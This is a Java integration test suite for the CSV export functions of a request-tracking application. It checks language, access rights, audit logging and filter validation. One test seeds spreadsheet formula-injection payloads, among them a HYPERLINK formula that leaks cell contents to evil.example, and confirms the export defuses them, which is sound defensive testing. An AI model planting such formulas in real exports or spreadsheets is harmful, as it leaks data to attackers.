package org.plazo.export.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.plazo.export.ExportRecord;
import org.plazo.export.Exports;
import org.plazo.security.web.WebClient;
import org.plazo.support.PlazoIT;
import org.plazo.support.SecretRequests;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Lists as files: what is in them, for whom, and that the record tells of each. */
@PlazoIT
class ExportsIT {

    private static final char BYTE_ORDER_MARK = '\uFEFF';

    @LocalServerPort
    private int port;

    @Autowired
    private SecretRequests requests;

    @Autowired
    private Exports exports;

    @Autowired
    private JdbcClient jdbc;

    @Test
    void speaksTheReadersLanguage() throws IOException {
        String word = word();
        String reference = requests.draft("Exportar " + word, SecretRequests.ORDINARY, "");
        WebClient auditor = WebClient.loggedIn(port, "auditor");
        HttpResponse<String> spanish = auditor.get("/requests.csv?lang=es&text=" + word);
        assertThat(spanish.headers().firstValue("Content-Type")).contains("text/csv;charset=UTF-8");
        assertThat(spanish.headers().firstValue("Content-Disposition")).hasValueSatisfying(value -> assertThat(value)
                .matches("attachment; filename=\"requests-\\d{4}-\\d\\d-\\d\\d\\.csv\""));
        CSVRecord row = rows(spanish.body(), ';').get(0);
        assertThat(row.get("Referencia")).isEqualTo(reference);
        assertThat(row.get("Autoridad requerida")).isEqualTo("Departamento de Justicia");
        assertThat(row.get("Ámbito delictivo")).isEqualTo("Tráfico ilícito de drogas");
        assertThat(row.get("Etapa")).isEqualTo("borrador");
        row = rows(auditor.get("/requests.csv?lang=en&text=" + word).body(), ',')
                .get(0);
        assertThat(row.get("Requested authority")).isEqualTo("Department of Justice");
        assertThat(row.get("Handler")).isEqualTo("Demo handler");
    }

    @Test
    void givesProgramsKeysAndCodes() throws IOException {
        String word = word();
        String reference = requests.draft("Exportar " + word, SecretRequests.ORDINARY, "");
        HttpResponse<String> answer = api("auditor", "/api/requests/export?text=" + word);
        assertThat(answer.body())
                .startsWith(BYTE_ORDER_MARK
                        + "\"reference\",\"direction\",\"theirReference\",\"kind\",\"requestingAuthority\",");
        CSVRecord row = rows(answer.body(), ',').get(0);
        assertThat(row.get("reference")).isEqualTo(reference);
        assertThat(row.get("direction")).isEqualTo("OUTGOING");
        assertThat(row.get("lifecycle")).isEqualTo("DRAFT");
        assertThat(row.get("crimeArea")).isEqualTo("DRUGS");
        assertThat(row.get("dueAt")).isEmpty();
    }

    @Test
    void takesTheWholeListInItsOrder() throws IOException {
        String word = word();
        for (int i = 0; i < 7; i++) {
            requests.draft("Orden " + word, SecretRequests.ORDINARY, "");
        }
        List<CSVRecord> rows = rows(
                api("auditor", "/api/requests/export?sort=-reference&size=2&page=1&text=" + word)
                        .body(),
                ',');
        assertThat(rows).hasSize(7);
        List<String> references = rows.stream().map(row -> row.get("reference")).toList();
        assertThat(references).isSortedAccordingTo((a, b) -> b.compareTo(a));
        assertThat(rows(
                        api("auditor", "/api/requests/export?text=" + word + "&lifecycle=CLOSED")
                                .body(),
                        ','))
                .isEmpty();
    }

    @Test
    void calculatesNothingThatSomebodyTyped() throws IOException {
        String word = word();
        requests.draft("=HYPERLINK(\"http://evil.example/?\"&A1,\"" + word + "\")", SecretRequests.ORDINARY, "");
        requests.draft("@" + word, SecretRequests.ORDINARY, "");
        requests.draft("+1 " + word, SecretRequests.ORDINARY, "");
        requests.draft("x\";=1+1;" + word, SecretRequests.ORDINARY, "");
        String body = api("auditor", "/api/requests/export?text=" + word).body();
        assertThat(rows(body, ','))
                .extracting(row -> row.get("label"))
                .containsExactlyInAnyOrder(
                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"" + word + "\")",
                        "'@" + word,
                        "'+1 " + word,
                        "x\";'=1+1;" + word);
        assertThat(body).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"" + word + "\"\")\"");
    }

    @Test
    void holdsOnlyWhatTheReaderMaySee() throws IOException {
        String word = word();
        String open = requests.draft("Ver " + word, SecretRequests.ORDINARY, "");
        String hidden = requests.draft("Ver " + word, SecretRequests.CONFIDENTIAL, "");
        String path = "/api/requests/export?text=" + word;
        assertThat(references(api("delegate", path))).containsExactly(open);
        assertThat(references(api("auditor", path))).containsExactlyInAnyOrder(open, hidden);
        assertThat(rows(
                        WebClient.loggedIn(port, "delegate")
                                .get("/requests.csv?lang=en&text=" + word)
                                .body(),
                        ','))
                .hasSize(1);
    }

    @Test
    void recordsWhoTookWhat() throws Exception {
        String word = word();
        requests.draft("Anotar " + word, SecretRequests.ORDINARY, "");
        byte[] file = api("handler", "/api/requests/export?sort=reference&text=a%26b%20" + word + "&open=true")
                .body()
                .getBytes(StandardCharsets.UTF_8);
        ExportRecord last = exports.list(0, 1).get(0);
        assertThat(last.actor()).isEqualTo("handler");
        assertThat(last.list()).isEqualTo("requests");
        assertThat(last.query()).isEqualTo("text=a%26b%20" + word + "&open=true&sort=reference");
        assertThat(last.rows()).isZero();
        assertThat(last.sha256())
                .isEqualTo(HexFormat.of()
                        .formatHex(MessageDigest.getInstance("SHA-256").digest(file)));

        String auditors =
                WebClient.loggedIn(port, "auditor").get("/exports?lang=es").body();
        assertThat(auditors)
                .contains("Referencia o asunto: a&amp;b " + word + " · Situación: pendientes · Orden: reference")
                .contains(last.sha256())
                .contains(">registro<");
        String admins =
                WebClient.loggedIn(port, "admin").get("/exports?lang=en").body();
        assertThat(admins)
                .contains("Reference or label: … · State: pending · Order: reference")
                .doesNotContain(word);
        assertThat(WebClient.loggedIn(port, "admin").get("/exports.csv").body())
                .contains(last.sha256())
                .doesNotContain(word);
    }

    @Test
    void showsTheRecordToAuditorsAndAdministratorsOnly() {
        for (String user : List.of("handler", "reviewer", "manager", "head", "delegate")) {
            WebClient client = WebClient.loggedIn(port, user);
            assertThat(client.get("/exports").statusCode()).as(user).isEqualTo(403);
            assertThat(client.get("/exports.csv").statusCode()).as(user).isEqualTo(403);
            assertThat(client.get("/").body()).as(user).doesNotContain("href=\"/exports\"");
        }
        assertThat(WebClient.loggedIn(port, "auditor").get("/").body()).contains("href=\"/exports\"");
        for (String page : List.of("-1", "99999999")) {
            assertThat(WebClient.loggedIn(port, "auditor")
                            .get("/exports?page=" + page)
                            .statusCode())
                    .isEqualTo(200);
        }
    }

    @Test
    void tellsInTheLedgerOfARestrictedRequest() {
        String word = word();
        String restricted = requests.draft("Libro " + word, SecretRequests.CONFIDENTIAL, "");
        String ordinary = requests.draft("Libro " + word, SecretRequests.ORDINARY, "");
        api("auditor", "/api/requests/export?text=" + word);
        long number = exports.list(0, 1).get(0).id();
        assertThat(actions(restricted)).contains("EXPORTED " + number);
        assertThat(actions(ordinary)).noneMatch(action -> action.startsWith("EXPORTED"));
        assertThat(WebClient.loggedIn(port, "auditor")
                        .get("/requests/" + restricted + "?lang=es")
                        .body())
                .contains("auditor exportó una lista con la solicitud el ")
                .contains("(exportación " + number + ")");
    }

    @ParameterizedTest
    @CsvSource({"age=OLD, age", "sort=label, sort", "authority=FBX, authority", "open=1, open", "direction=x, direction"
    })
    void takesNothingAwayWhenAFilterIsWrong(String query, String named) {
        long before = exports.count();
        HttpResponse<String> refused = api("auditor", "/api/requests/export?" + query);
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.headers().firstValue("Content-Type")).contains("application/problem+json");
        assertThat(refused.body()).contains("\"field\":\"" + named + "\"");
        WebClient auditor = WebClient.loggedIn(port, "auditor");
        HttpResponse<String> page = auditor.get("/requests.csv?lang=en&" + query, "Accept", "text/html");
        assertThat(page.statusCode()).isEqualTo(400);
        assertThat(page.body()).contains("holds a value that Plazo does not know");
        HttpResponse<String> counts = auditor.get("/requests/counts.csv?" + query, "Accept", "text/html");
        assertThat(counts.statusCode()).isEqualTo(named.equals("sort") ? 200 : 400);
        assertThat(exports.count()).isEqualTo(named.equals("sort") ? before + 1 : before);
    }

    @Test
    void takesTheNumbersOfTheChartsAway() throws IOException {
        requests.draft("Cifras", SecretRequests.ORDINARY, "");
        WebClient auditor = WebClient.loggedIn(port, "auditor");
        List<CSVRecord> rows =
                rows(auditor.get("/requests/counts.csv?lang=en&open=true").body(), ',');
        Set<String> groupings = Set.of("Deadline", "Since dispatch", "Authority", "Crime area");
        assertThat(rows).extracting(row -> row.get("Counted by")).containsOnlyElementsOf(groupings);
        assertThat(groupings.stream().map(grouping -> rows.stream()
                        .filter(row -> row.get("Counted by").equals(grouping))
                        .mapToLong(row -> Long.parseLong(row.get("Requests")))
                        .sum()))
                .containsOnly(Long.parseLong(api("auditor", "/api/requests/counts?open=true")
                        .body()
                        .replaceAll(".*\"total\":(\\d+).*", "$1")));
    }

    @Test
    void takesNotificationsAway() throws IOException {
        WebClient manager = WebClient.loggedIn(port, "manager");
        String body = manager.get("/notifications.csv?lang=es").body();
        assertThat(body).startsWith(BYTE_ORDER_MARK + "\"Solicitud\";");
        long counted =
                jdbc.sql("select count(*) from notification").query(Long.class).single();
        assertThat((long) rows(body, ';').size()).isLessThanOrEqualTo(counted);
        assertThat(exports.list(0, 1).get(0).list()).isEqualTo("notifications");
        assertThat(manager.get("/notifications.csv?state=LOST", "Accept", "text/html")
                        .statusCode())
                .isEqualTo(400);
    }

    @Test
    void leavesNoFileBehind() throws IOException {
        api("auditor", "/api/requests/export");
        try (var files = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            assertThat(files.map(file -> file.getFileName().toString()))
                    .noneMatch(name -> name.startsWith("plazo-list"));
        }
    }

    private List<String> actions(String reference) {
        return jdbc.sql("""
                        select action || ' ' || coalesce(subject, '') from ledger_event
                         where request_id = (select id from cooperation_request where reference = ?)""").param(reference).query(String.class).list();
    }

    private HttpResponse<String> api(String user, String path) {
        return WebClient.anonymous(port).send("GET", path, null, WebClient.basic(user, user));
    }

    private static List<String> references(HttpResponse<String> answer) throws IOException {
        return rows(answer.body(), ',').stream()
                .map(row -> row.get("reference"))
                .toList();
    }

    private static List<CSVRecord> rows(String body, char separator) throws IOException {
        assertThat(body).startsWith(String.valueOf(BYTE_ORDER_MARK));
        return CSVFormat.RFC4180
                .builder()
                .setDelimiter(separator)
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(body.substring(1)))
                .getRecords();
    }

    private static String word() {
        return "zz" + Long.toString(System.nanoTime(), 36);
    }
}
